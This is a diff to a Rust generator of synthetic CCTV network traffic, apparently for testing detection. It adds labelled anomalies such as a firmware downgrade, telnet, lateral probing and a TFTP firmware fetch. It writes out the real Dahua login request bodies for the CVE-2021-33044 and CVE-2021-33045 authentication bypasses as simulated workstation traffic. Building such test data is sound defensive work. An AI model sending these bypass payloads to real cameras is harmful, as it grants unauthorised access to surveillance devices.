@@ -10,11 +10,14 @@ use rand::RngExt;
 use rand_chacha::ChaCha8Rng;
 
 use super::mgmt;
-use super::net::{sub_rng, Camera, HostId, Site, Vendor, DAHUA_CLOUD_IP, GATEWAY_IP, HIK_CLOUD_IP, VMS_IP};
+use super::net::{
+    sub_rng, Camera, HostId, Site, Vendor, DAHUA_CLOUD_IP, GATEWAY_IP, HIK_CLOUD_IP, VMS_IP,
+    VULNERABLE_HIK_FIRMWARE,
+};
 use super::payloads::{self as p, jitter, Answer, RtpStream};
 use super::tcp::{Conn, Dial, Rtt, SEG_PAYLOAD};
 use super::wire::{Peer, Plan, ARP_LEAD, UDP};
-use super::{Scenario, TruthFirmware, TruthFirmwareUpload};
+use super::{Scenario, TruthEvent, TruthFirmware, TruthFirmwareUpload};
 
 const MS: u64 = 1_000;
 const SEC: u64 = 1_000_000;
@@ -44,6 +47,30 @@ const WSD_PORT: u16 = 3702;
 /// Firmware a Hikvision camera runs after the `firmware` anomaly's upgrade (SADP form; as long
 /// as the original version, so the SADP flow's byte counts do not change).
 const HIK_UPGRADE_FIRMWARE: &str = "V5.7.9build 230217";
+/// Older firmware a Dahua camera reports after the `downgrade` anomaly (as long as the usual
+/// `2.800.0000000.29.R`, so the DHIP flow's byte counts do not change).
+const DAHUA_DOWNGRADE_FIRMWARE: &str = "2.622.0000000.31.R";
+/// Authentication bypass logins of the `dahua_exploit` anomaly: (JSON-RPC id, CVE, body).
+const DAHUA_LOGINS: [(u32, &str, &str); 2] = [
+    (
+        1,
+        "CVE-2021-33044",
+        concat!(
+            r#"{"method":"global.login","params":{"userName":"admin","password":"","#,
+            r#""clientType":"NetKeyboard","loginType":"Direct"},"id":1,"session":0}"#
+        ),
+    ),
+    (
+        2,
+        "CVE-2021-33045",
+        concat!(
+            r#"{"method":"global.login","params":{"userName":"admin","password":"","#,
+            r#""clientType":"Local","loginType":"Loopback","ipAddr":"127.0.0.1"},"id":2,"session":0}"#
+        ),
+    ),
+];
+/// File the `tftp_firmware` anomaly's camera fetches.
+const TFTP_FILE: &str = "digicap.dav";
 
 /// Every SNI the generator can put in a ClientHello (for tests).
 #[cfg(test)]
@@ -112,11 +139,15 @@ pub(crate) fn build(s: &Scenario, site: &Site) -> anyhow::Result<Plan> {
     // Planned ahead of the discovery announcements, which report the new version afterwards.
     // (It only takes ports of the workstation, which has no baseline traffic.)
     let upgrade = if a.firmware { firmware(&mut plan, &ctx, s.firmware_bytes)? } else { None };
-    let mut announced_upgrade = vec![false; site.cameras.len()];
+    // Only picks a time from the discovery schedule (own random stream, no traffic).
+    let downgrade = if a.downgrade { downgrade_time(&ctx) } else { None };
+    let change_of = |i: usize| {
+        upgrade.as_ref().filter(|u| u.camera == i).or(downgrade.as_ref().filter(|d| d.camera == i))
+    };
+    let mut announced_change = vec![false; site.cameras.len()];
     for (i, cam) in site.cameras.iter().enumerate() {
         time_sync(&mut plan, &ctx, i, cam)?;
-        let up = upgrade.as_ref().filter(|u| u.camera == i);
-        announced_upgrade[i] = discovery(&mut plan, &ctx, i, cam, up)?;
+        announced_change[i] = discovery(&mut plan, &ctx, i, cam, change_of(i))?;
     }
     vms_session(&mut plan, &ctx)?;
     ws_discovery(&mut plan, &ctx)?;
@@ -126,9 +157,9 @@ pub(crate) fn build(s: &Scenario, site: &Site) -> anyhow::Result<Plan> {
             Vendor::Dahua | Vendor::Axis => onvif_device_information(&mut plan, &ctx, i, cam)?,
         }
     }
-    for (cam, announced) in site.cameras.iter().zip(announced_upgrade) {
+    for (i, cam) in site.cameras.iter().enumerate() {
         let mut versions = vec![cam.firmware.to_string()];
-        if let Some(u) = upgrade.as_ref().filter(|_| announced) {
+        if let Some(u) = change_of(i).filter(|_| announced_change[i]) {
             versions.push(u.version.to_string());
         }
         plan.firmware.push(TruthFirmware {
@@ -152,6 +183,43 @@ pub(crate) fn build(s: &Scenario, site: &Site) -> anyhow::Result<Plan> {
     }
     if a.upload {
         upload(&mut plan, &ctx, s.upload_bytes)?;
+    }
+
+    // The anomalies below are planned after all other traffic, so the ephemeral ports they
+    // take never shift another conversation's.
+    if a.dahua_exploit {
+        dahua_exploit(&mut plan, &ctx)?;
+    }
+    if a.telnet {
+        telnet(&mut plan, &ctx)?;
+    }
+    if a.lateral {
+        lateral(&mut plan, &ctx)?;
+    }
+    // Recorded only if an announcement carried the older version.
+    if let Some(d) = downgrade.as_ref().filter(|d| announced_change[d.camera]) {
+        plan.anomaly_events.push(TruthEvent {
+            kind: "downgrade".into(),
+            device: site.cameras[d.camera].ip,
+            peer: None,
+            detail: d.version.into(),
+        });
+    }
+    if a.cloud_enabled {
+        ezviz(&mut plan, &ctx)?;
+    }
+    if a.vulnerable_firmware {
+        if let Some(cam) = site.cameras.iter().find(|c| c.firmware == VULNERABLE_HIK_FIRMWARE) {
+            plan.anomaly_events.push(TruthEvent {
+                kind: "vulnerable_firmware".into(),
+                device: cam.ip,
+                peer: None,
+                detail: cam.firmware.into(),
+            });
+        }
+    }
+    if a.tftp_firmware {
+        tftp_firmware(&mut plan, &ctx, s.tftp_bytes)?;
     }
     Ok(plan)
 }
@@ -387,7 +455,7 @@ fn discovery_times(ctx: &Ctx, i: usize) -> Vec<u64> {
     out
 }
 
-/// A firmware upgrade of one camera: from `at` on it reports `version`.
+/// A firmware change of one camera (upgrade or downgrade): after `at` it reports `version`.
 struct Upgrade {
     camera: usize,
     at: u64,
@@ -395,7 +463,7 @@ struct Upgrade {
 }
 
 /// Vendor discovery multicast every 30 s: SADP for Hikvision, DHIP for Dahua. Announcements
-/// after an `upgrade` carry the new version; returns whether any did.
+/// after a firmware change (`upgrade`) carry the new version; returns whether any did.
 fn discovery(
     plan: &mut Plan,
     ctx: &Ctx,
@@ -421,7 +489,7 @@ fn discovery(
             _ => cam.firmware,
         };
         let payload = match cam.vendor {
-            Vendor::Dahua => p::dhip_notify(cam, 0, request),
+            Vendor::Dahua => p::dhip_notify(cam, firmware, 0, request),
             _ => p::sadp_hello(cam, firmware),
         };
         plan.udp(t, flow, true, payload);
@@ -836,4 +904,187 @@ fn firmware(plan: &mut Plan, ctx: &Ctx, bytes: usize) -> anyhow::Result<Option<U
         new_version: HIK_UPGRADE_FIRMWARE.to_string(),
     });
     Ok(Some(Upgrade { camera: i, at: done, version: HIK_UPGRADE_FIRMWARE }))
+}
+
+/// When the last Dahua camera of the `downgrade` anomaly switches to
+/// [`DAHUA_DOWNGRADE_FIRMWARE`]: before one of its DHIP announcements in the second half of the
+/// capture that follows at least one other. `None` if it makes no such announcement (captures
+/// shorter than about a minute).
+fn downgrade_time(ctx: &Ctx) -> Option<Upgrade> {
+    let (i, _) = ctx.site.cameras.iter().enumerate().rev().find(|(_, c)| c.vendor == Vendor::Dahua)?;
+    let times = discovery_times(ctx, i);
+    let half = ctx.dur / 2;
+    let eligible: Vec<usize> = (1..times.len()).filter(|&k| times[k] > half).collect();
+    if eligible.is_empty() {
+        return None;
+    }
+    let mut rng = ctx.rng("downgrade", 0);
+    let k = eligible[rng.random_range(0..eligible.len())];
+    let at = jitter(&mut rng, times[k - 1].max(half), times[k]);
+    Some(Upgrade { camera: i, at, version: DAHUA_DOWNGRADE_FIRMWARE })
+}
+
+/// The workstation logs in to the last Dahua camera with the CVE-2021-33044 and, a few seconds
+/// later on a new connection, the CVE-2021-33045 authentication bypass; both succeed.
+fn dahua_exploit(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
+    let Some(cam) = ctx.site.cameras_of(Vendor::Dahua).next_back() else {
+        return Ok(());
+    };
+    let mut rng = ctx.rng("dahua-exploit", 0);
+    let rng = &mut rng;
+    let host = cam.ip.to_string();
+    let ws = ctx.site.workstation;
+    let dial = Dial { client: ws, server: cam.host, port: 80, kind: Some("dahua_exploit") };
+    let mut t = ctx.window(rng, 35, 55);
+    for (id, cve, body) in DAHUA_LOGINS {
+        let request = http_request(
+            "POST",
+            mgmt::DAHUA_RPC2_LOGIN,
+            &host,
+            HTTP_CLIENT,
+            Some(("application/json", body)),
+        );
+        let response = mgmt::dahua_json_response(&mgmt::dahua_login_ok(rng, id));
+        let rtt = lan_rtt(rng);
+        t = http_exchange(plan, rng, dial, rtt, t, &request, |_| Ok(response))?;
+        t += jitter(rng, 2 * SEC, 8 * SEC);
+        plan.anomaly_events.push(TruthEvent {
+            kind: "dahua_exploit".into(),
+            device: cam.ip,
+            peer: Some(ctx.site.ip(ws)),
+            detail: cve.into(),
+        });
+    }
+    Ok(())
+}
+
+/// The workstation opens a telnet session to the last Hikvision camera: option negotiation,
+/// the camera's login prompt, and the workstation closes a few seconds later.
+fn telnet(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
+    let Some(cam) = ctx.site.cameras_of(Vendor::Hikvision).next_back() else {
+        return Ok(());
+    };
+    let mut rng = ctx.rng("telnet", 0);
+    let rng = &mut rng;
+    let ws = ctx.site.workstation;
+    let dial = Dial { client: ws, server: cam.host, port: 23, kind: Some("telnet") };
+    let rtt = lan_rtt(rng);
+    let t = ctx.window(rng, 60, 80);
+    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;
+    let t = t + jitter(rng, 100, MS);
+    c.segment(plan, true, t, p::telnet_client_hello());
+    let t = t + rtt.server + jitter(rng, MS, 5 * MS);
+    c.segment(plan, false, t, p::telnet_server_hello());
+    c.pure_ack(plan, true, t + rtt.client);
+    let t = t + jitter(rng, SEC, 4 * SEC);
+    c.close(plan, true, t, rtt.server, rtt.client);
+    plan.anomaly_events.push(TruthEvent {
+        kind: "telnet".into(),
+        device: cam.ip,
+        peer: Some(ctx.site.ip(ws)),
+        detail: "23/tcp".into(),
+    });
+    Ok(())
+}
+
+/// The last Dahua camera requests the first Hikvision camera's web root and gets the digest
+/// challenge.
+fn lateral(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
+    let (Some(src), Some(dst)) =
+        (ctx.site.cameras_of(Vendor::Dahua).next_back(), ctx.site.cameras_of(Vendor::Hikvision).next())
+    else {
+        return Ok(());
+    };
+    let mut rng = ctx.rng("lateral", 0);
+    let rng = &mut rng;
+    let mut nonce_rng = ctx.rng("lateral-nonce", 0);
+    let dial = Dial { client: src.host, server: dst.host, port: 80, kind: Some("lateral") };
+    let request = http_request("GET", "/", &dst.ip.to_string(), "Wget", None);
+    let rtt = lan_rtt(rng);
+    let t = ctx.window(rng, 40, 80);
+    http_exchange(plan, rng, dial, rtt, t, &request, |t| {
+        Ok(mgmt::hik_unauthorized(&mut nonce_rng, dst, &ctx.date(t)?))
+    })?;
+    plan.anomaly_events.push(TruthEvent {
+        kind: "lateral".into(),
+        device: src.ip,
+        peer: Some(dst.ip),
+        detail: "80/tcp".into(),
+    });
+    Ok(())
+}
+
+/// The NVR reads the Hik-Connect setting of the camera of the `cloud_enabled` anomaly (whose
+/// SADP announcements carry `HCPlatformEnable` true).
+fn ezviz(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
+    let Some(cam) = ctx.site.cameras.iter().find(|c| c.hc_platform) else {
+        return Ok(());
+    };
+    let mut rng = ctx.rng("ezviz", 0);
+    let rng = &mut rng;
+    let t = ctx.window(rng, 8, 25);
+    let dial = Dial { client: ctx.site.nvr, server: cam.host, port: 80, kind: None };
+    let rtt = lan_rtt(rng);
+    let mut auth = mgmt::Digest::new(rng, cam);
+    let request = mgmt::isapi_get(cam, &mut auth, mgmt::ISAPI_EZVIZ);
+    http_exchange(plan, rng, dial, rtt, t, &request, |t| {
+        Ok(mgmt::isapi_response(&ctx.date(t)?, mgmt::isapi_ezviz_enabled()))
+    })?;
+    plan.anomaly_events.push(TruthEvent {
+        kind: "cloud_enabled".into(),
+        device: cam.ip,
+        peer: None,
+        detail: HIK_CLOUD_NAME.into(),
+    });
+    Ok(())
+}
+
+/// The first Hikvision camera fetches a `digicap.dav` image of `bytes` bytes from the TFTP
+/// server (RFC 1350, `octet` mode): a read request to port 69, then lock-step DATA blocks of
+/// 512 bytes from the server's own port, each acknowledged; a shorter (possibly empty) block
+/// ends the transfer.
+fn tftp_firmware(plan: &mut Plan, ctx: &Ctx, bytes: usize) -> anyhow::Result<()> {
+    let Some(cam) = ctx.site.cameras_of(Vendor::Hikvision).next() else {
+        return Ok(());
+    };
+    let mut rng = ctx.rng("tftp", 0);
+    let rng = &mut rng;
+    let server = ctx.site.tftp_server;
+    let image = mgmt::digicap(rng, bytes);
+    let t = ctx.window(rng, 65, 85);
+    let rrq = plan.udp_flow(rng, cam.host, Peer::Host(server), 69, Some("tftp_firmware"))?;
+    let cam_port = plan.flows[rrq].client_port;
+    plan.udp(t, rrq, true, p::tftp_rrq(TFTP_FILE));
+    // The server answers from a new port (its transfer identifier).
+    let server_port = plan.ephemeral_port(rng, server, UDP);
+    let data = plan.flow(UDP, server, server_port, Peer::Host(cam.host), cam_port, Some("tftp_firmware"))?;
+    let mut blocks: Vec<&[u8]> = image.chunks(p::TFTP_BLOCK).collect();
+    // A transfer ends with a block shorter than 512 bytes: an empty one if need be.
+    if blocks.last().is_none_or(|b| b.len() == p::TFTP_BLOCK) {
+        blocks.push(&[]);
+    }
+    let mut t = t + jitter(rng, 300, 2 * MS);
+    for (n, chunk) in blocks.into_iter().enumerate() {
+        // Block numbers start at 1 and wrap after 65535.
+        let block = (n as u64 + 1) as u16;
+        plan.udp(t, data, true, p::tftp_data(block, chunk));
+        t += jitter(rng, 60, 200);
+        plan.udp(t, data, false, p::tftp_ack(block));
+        t += jitter(rng, 80, 300);
+    }
+    let from = ctx.site.ip(server);
+    plan.tftp_downloads.push(TruthFirmwareUpload {
+        device: cam.ip,
+        from,
+        size: image.len() as u64,
+        sha256: mgmt::sha256_hex(&image),
+        new_version: String::new(),
+    });
+    plan.anomaly_events.push(TruthEvent {
+        kind: "tftp_firmware".into(),
+        device: cam.ip,
+        peer: Some(from),
+        detail: TFTP_FILE.into(),
+    });
+    Ok(())
 }
